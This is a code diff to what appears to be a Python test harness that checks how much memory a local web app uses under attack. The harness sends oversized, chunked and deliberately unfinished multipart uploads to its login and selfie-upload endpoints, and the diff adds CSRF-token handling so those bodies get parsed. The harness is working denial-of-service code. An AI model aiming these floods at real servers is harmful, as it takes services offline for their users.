@@ -19,7 +19,6 @@ MOST_MB = 400
 
 
 def attack(site: Site) -> Outcome:
-    site.caller().get("/accounts/login/")
     before = _web_mb(site)
     grown, statuses = {}, {}
     for name, act in (("declared", _declared), ("chunked", _chunked), ("unfinished", _unfinished)):
@@ -42,7 +41,7 @@ def _chunked(site: Site) -> str:
 
 def _post(site: Site, headers: dict[str, str], *, chunked: bool) -> str:
     connection = http.client.HTTPConnection("127.0.0.1", site.port, timeout=60)
-    headers |= {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}", "X-Forwarded-Proto": "https"}
+    headers |= _as_a_browser(site)
     try:
         with contextlib.suppress(BrokenPipeError, ConnectionResetError):
             connection.request("POST", "/accounts/login/", _parts(PIECE), headers, encode_chunked=chunked)
@@ -51,6 +50,20 @@ def _post(site: Site, headers: dict[str, str], *, chunked: bool) -> str:
         return type(error).__name__
     finally:
         connection.close()
+
+
+def _as_a_browser(site: Site) -> dict[str, str]:
+    """Headers of a form, with the token that anybody gets: without it nothing of the body is looked at."""
+    caller = site.caller()
+    caller.get("/accounts/login/")
+    token = str(caller.jar["csrftoken"])
+    return {
+        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}",
+        "X-Forwarded-Proto": "https",
+        "Referer": f"https://127.0.0.1:{site.port}/",
+        "Cookie": f"csrftoken={token}",
+        "X-CSRFToken": token,
+    }
 
 
 def _parts(piece: bytes) -> Iterator[bytes]:
@@ -69,13 +82,13 @@ def _parts(piece: bytes) -> Iterator[bytes]:
 
 def _unfinished(site: Site) -> str:
     """All but the last byte of a photograph, from many at once, to where photographs are taken."""
-    head = (
-        "POST /selfies/new/ HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Forwarded-Proto: https\r\n"
-        f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {FILE_BYTES}\r\n\r\n"
-    ).encode()
+    headers = {"Host": f"127.0.0.1:{site.port}", "Content-Length": str(FILE_BYTES), **_as_a_browser(site)}
+    lines = ["POST /selfies/new/ HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
+    head = "\r\n".join([*lines, "", ""]).encode()
+    part = next(_parts(PIECE))
     with contextlib.ExitStack() as stack:
         senders = [
-            threading.Thread(target=_almost, args=(stack.enter_context(_connected(site)), head))
+            threading.Thread(target=_almost, args=(stack.enter_context(_connected(site)), head + part))
             for _ in range(UNFINISHED)
         ]
         for sender in senders:
@@ -93,7 +106,7 @@ def _connected(site: Site) -> socket.socket:
 def _almost(connection: socket.socket, head: bytes) -> None:
     with contextlib.suppress(OSError):
         connection.sendall(head)
-        left = FILE_BYTES - 1
+        left = FILE_BYTES - len(head)
         while left:
             connection.sendall(PIECE[:left])
             left -= len(PIECE[:left])
